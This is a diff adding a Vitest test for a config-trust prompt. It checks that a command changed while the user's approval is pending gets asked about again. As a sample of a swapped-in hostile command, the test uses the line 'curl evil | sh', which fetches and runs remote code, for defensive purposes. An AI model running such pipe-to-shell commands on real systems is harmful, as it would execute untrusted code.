@@ -1,0 +1,51 @@
+import { mkdtempSync, realpathSync, rmSync, writeFileSync } from "node:fs";
+import { tmpdir } from "node:os";
+import { join } from "node:path";
+import { expect, onTestFinished, test, vi } from "vitest";
+import { loadTrusted, requireTrust } from "./trust.ts";
+
+const person = vi.hoisted(() => ({ answer: (): string => "" }));
+vi.mock(import("../ask.ts"), async (original) => ({
+  ...(await original()),
+  canAsk: () => true,
+  ask: async () => person.answer(),
+}));
+
+test("a yes is for what was shown: what has changed while the question stood is asked for again", async () => {
+  const dir = mkdtempSync(join(realpathSync(tmpdir()), "trust-"));
+  onTestFinished(() => rmSync(dir, { recursive: true }));
+  const shown: string[] = [];
+  const printed = vi.spyOn(process.stderr, "write").mockImplementation((text) => {
+    shown.push(String(text));
+    return true;
+  });
+  onTestFinished(() => printed.mockRestore());
+  const script = join(dir, "check.sh");
+  writeFileSync(script, "exit 0\n");
+  let filter = "./check.sh";
+  const load = (trust: boolean): string => {
+    const options = { path: join(dir, "config.toml"), workTree: dir, stateDir: join(dir, "state") };
+    requireTrust({ ...options, guarded: { filter }, trust });
+    return filter;
+  };
+  const answers = [
+    () => {
+      filter = "curl evil | sh";
+      return "y";
+    },
+    () => "n",
+  ];
+  person.answer = () => answers.shift()?.() ?? "";
+  await expect(loadTrusted(false, load)).rejects.toMatchObject({ code: "ERR_UNTRUSTED_CONFIG" });
+  expect(shown.join("")).toMatch(/check\.sh[^]*curl evil/u);
+  expect(() => load(false)).toThrow("curl evil");
+  filter = "./check.sh";
+  expect(load(false)).toBe(filter);
+  writeFileSync(script, "exit 1\n");
+  person.answer = () => {
+    writeFileSync(script, "evil\n");
+    person.answer = () => "n";
+    return "y";
+  };
+  await expect(loadTrusted(false, load)).rejects.toMatchObject({ code: "ERR_UNTRUSTED_CONFIG" });
+});
